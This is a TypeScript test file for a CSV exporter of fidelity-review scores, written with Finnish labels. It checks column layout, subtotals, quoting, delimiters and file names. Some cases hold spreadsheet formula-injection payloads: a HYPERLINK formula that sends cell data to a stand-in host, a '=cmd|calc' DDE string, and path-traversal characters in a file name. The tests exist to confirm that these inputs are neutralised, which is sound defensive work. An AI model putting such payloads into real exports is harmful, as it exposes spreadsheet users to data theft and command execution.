import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { ITEM_IDS, type ItemId } from '../../../src/domain/fidelity/items';
import {
  buildScoreTable,
  CSV_BOM,
  csvDelimiter,
  csvFileName,
  reviewerColumns,
  toCsv,
  type ReviewerScore,
  type ScoreTable,
  type ScoreTableLabels,
} from '../../../src/domain/report/score-rows';

const labels: ScoreTableLabels = {
  itemId: 'Tunnus',
  section: 'Osa-alue',
  number: 'Nro',
  title: 'Kohta',
  reviewerScore: (name) => `Pisteet: ${name}`,
  consensus: 'Yhteisarvio',
  notes: 'Havainnot',
  sectionName: (section) => ({ staffing: 'Henkilöstö', organization: 'Organisaatio', services: 'Palvelut' })[section],
  dataSources: 'Tietolähteet',
  recommendations: 'Suositukset',
  dataSourceName: (source) => `lähde ${source}`,
  recommendation: (priority, text) => `${priority}: ${text}`,
  subtotal: (section) => `Yhteensä: ${section}`,
  total: 'Kokonaispisteet',
  bandName: (band) => `taso ${band}`,
};

const titleOf = (id: ItemId) => `Otsikko ${id}`;

function table(overrides: Partial<Parameters<typeof buildScoreTable>[0]> = {}): ScoreTable {
  return buildScoreTable({ reviewers: [], reviewerScores: [], consensus: [], titleOf, labels, ...overrides });
}

/** Parses our CSV back (without the BOM) the way a spreadsheet would: RFC 4180 rules. */
function parse(csv: string, delimiter: string): string[][] {
  const result = Papa.parse<string[]>(csv.slice(CSV_BOM.length), { delimiter, newline: '\r\n', skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return result.data;
}

describe('reviewerColumns', () => {
  const score = (reviewerName: string): ReviewerScore => ({ reviewerName, itemId: 'staffing-1', score: 3, notes: '' });

  it('keeps the order the review lists its reviewers in, then others alphabetically', () => {
    expect(reviewerColumns(['Bea', 'Aino'], [score('Ödön'), score('Aino'), score('Bea'), score('Cecilia')])).toEqual([
      'Bea',
      'Aino',
      'Cecilia',
      'Ödön',
    ]);
  });

  it('gives no column to a listed reviewer without ratings, and none twice', () => {
    expect(reviewerColumns(['Aino', 'Bea', 'Aino'], [score('Aino'), score('Aino')])).toEqual(['Aino']);
    expect(reviewerColumns(['Aino'], [])).toEqual([]);
  });
});

describe('buildScoreTable', () => {
  it('has one row per item in the scale order, with empty cells for what nobody rated', () => {
    const { header, rows } = table();
    expect(header).toEqual(['Tunnus', 'Osa-alue', 'Nro', 'Kohta', 'Yhteisarvio', 'Havainnot', 'Tietolähteet', 'Suositukset']);
    expect(rows).toHaveLength(25);
    expect(rows.map((r) => r[0])).toEqual(ITEM_IDS);
    expect(rows[0]).toEqual(['staffing-1', 'Henkilöstö', 1, 'Otsikko staffing-1', '', '', '', '']);
    expect(rows[24]).toEqual(['services-14', 'Palvelut', 14, 'Otsikko services-14', '', '', '', '']);
  });

  it('puts each reviewer in a score column of their own, then the consensus and its notes', () => {
    const { header, rows } = table({
      reviewers: ['Aino', 'Bea'],
      reviewerScores: [
        { reviewerName: 'Bea', itemId: 'organization-2', score: 4, notes: 'B' },
        { reviewerName: 'Aino', itemId: 'organization-2', score: 2, notes: 'A' },
        { reviewerName: 'Aino', itemId: 'staffing-1', score: null, notes: '' },
      ],
      consensus: [{ itemId: 'organization-2', score: 3, notes: 'Sovittu' }],
    });
    expect(header).toEqual([
      'Tunnus',
      'Osa-alue',
      'Nro',
      'Kohta',
      'Pisteet: Aino',
      'Pisteet: Bea',
      'Yhteisarvio',
      'Havainnot',
      'Tietolähteet',
      'Suositukset',
    ]);
    expect(rows[4]).toEqual(['organization-2', 'Organisaatio', 2, 'Otsikko organization-2', 2, 4, 3, 'Sovittu', '', '']);
    expect(rows[0]?.slice(4)).toEqual(['', '', '', '', '', '']);
  });
});

describe('the CSV column set (issue 15, docs/csv-columns.md)', () => {
  const all = Object.fromEntries(ITEM_IDS.map((id) => [id, { itemId: id, score: 4, notes: '' }]));
  it("carries each item's data sources and recommendations, then the section subtotals, the total and the band", () => {
    const consensus = Object.values(all).map((c) =>
      c.itemId === 'services-6' ? { ...c, score: 2, dataSources: ['INT', 'MIS'] as const } : c,
    );
    const csv = toCsv(
      table({
        consensus,
        recommendations: [
          { itemId: 'services-6', priority: 'high', text: 'Lisää työnantajakäyntejä' },
          { itemId: 'services-6', priority: 'low', text: '=kirjaa käynnit' },
          { itemId: 'staffing-1', priority: 'medium', text: '  ' },
        ],
      }),
      { delimiter: ';' },
    );
    const parsed = parse(csv, ';');
    const row = parsed.find((r) => r[0] === 'services-6');
    expect(row?.slice(6)).toEqual(['lähde INT; lähde MIS', 'high: Lisää työnantajakäyntejä\nlow: =kirjaa käynnit']);
    expect(parsed.find((r) => r[0] === 'staffing-1')?.[7]).toBe('');
    // 24 items × 4 + 2 = 98: fair (74–99), and the subtotals add up to it.
    expect(parsed.slice(26)).toEqual([
      ['section:staffing', 'Henkilöstö', '', 'Yhteensä: Henkilöstö', '12', '', '', ''],
      ['section:organization', 'Organisaatio', '', 'Yhteensä: Organisaatio', '32', '', '', ''],
      ['section:services', 'Palvelut', '', 'Yhteensä: Palvelut', '54', '', '', ''],
      ['total', '', '', 'Kokonaispisteet', '98', 'taso fair', '', ''],
    ]);
  });

  it('leaves the band out until all 25 items are rated', () => {
    const csv = toCsv(table({ consensus: [{ itemId: 'staffing-1', score: 5, notes: '' }] }), { delimiter: ',' });
    expect(parse(csv, ',').at(-1)).toEqual(['total', '', '', 'Kokonaispisteet', '5', '', '', '']);
  });

  it('neutralises a recommendation that starts like a formula', () => {
    const csv = toCsv(
      table({
        recommendations: [{ itemId: 'staffing-1', priority: 'high', text: '=1+1' }],
        labels: { ...labels, recommendation: (_p, text) => text },
      }),
      { delimiter: ',' },
    );
    expect(parse(csv, ',')[1]?.[7]).toBe("'=1+1");
  });
});

describe('toCsv', () => {
  it('starts with a UTF-8 byte order mark and uses CRLF line ends: the header, 25 items, 3 section subtotals and the total', () => {
    const csv = toCsv(table(), { delimiter: ';' });
    expect(csv.startsWith('\uFEFFTunnus;Osa-alue;Nro;Kohta;Yhteisarvio;Havainnot;Tietolähteet;Suositukset\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n').filter(Boolean)).toHaveLength(30);
    expect(parse(csv, ';')[1]).toEqual(['staffing-1', 'Henkilöstö', '1', 'Otsikko staffing-1', '', '', '', '']);
  });

  it.each([
    ['=HYPERLINK("http://x?d="&A1)', `"'=HYPERLINK(""http://x?d=""&A1)"`],
    ['+1', `"'+1"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\tpiilo', `"'\tpiilo"`],
    ['\rrivi', `"'\rrivi"`],
    ['\nrivi', `"'\nrivi"`],
    ['=1+1\ntoinen rivi', `"'=1+1\ntoinen rivi"`],
  ])('neutralises a note starting like a formula: %j', (notes, expected) => {
    const csv = toCsv(table({ consensus: [{ itemId: 'staffing-1', score: 4, notes }] }), { delimiter: ',' });
    expect(csv).toContain(`,4,${expected},,\r\n`);
    expect(parse(csv, ',')[1]?.[5]).toBe(`'${notes}`);
  });

  it('neutralises a reviewer name in the header too, and leaves ordinary text and numbers alone', () => {
    const csv = toCsv(
      table({
        reviewers: ['=cmd|calc'],
        reviewerScores: [{ reviewerName: '=cmd|calc', itemId: 'staffing-1', score: 5, notes: '' }],
        consensus: [{ itemId: 'staffing-1', score: 5, notes: 'Asiakkaita 15 – "hyvä" taso; ei = merkkiä alussa' }],
        labels: { ...labels, reviewerScore: (name) => name },
      }),
      { delimiter: ';' },
    );
    const [header, first] = parse(csv, ';');
    expect(header?.[4]).toBe("'=cmd|calc");
    expect(first?.slice(4)).toEqual(['5', '5', 'Asiakkaita 15 – "hyvä" taso; ei = merkkiä alussa', '', '']);
    // RFC 4180: the field holding the delimiter and quotes is quoted, the quotes doubled.
    expect(csv).toContain(';5;5;"Asiakkaita 15 – ""hyvä"" taso; ei = merkkiä alussa";;\r\n');
  });

  it('keeps line breaks inside a quoted field', () => {
    const csv = toCsv(table({ consensus: [{ itemId: 'staffing-1', score: 3, notes: 'eka\r\ntoka' }] }), { delimiter: ';' });
    expect(parse(csv, ';')[1]?.[5]).toBe('eka\r\ntoka');
  });
});

describe('csvDelimiter and csvFileName', () => {
  it('uses a semicolon for Finnish and a comma for English', () => {
    expect(csvDelimiter('fi')).toBe(';');
    expect(csvDelimiter('en')).toBe(',');
  });

  it('makes a plain file name from the service and the first visit day', () => {
    expect(csvFileName('Työvalmennuspalvelu Kätevä', '2022-10-11')).toBe('fidelio-tyovalmennuspalvelu-kateva-2022-10-11.csv');
    expect(csvFileName('../=Ä/ö?*', '2022-10-11')).toBe('fidelio-a-o-2022-10-11.csv');
    expect(csvFileName('---', '2022-10-11')).toBe('fidelio-review-2022-10-11.csv');
  });
});
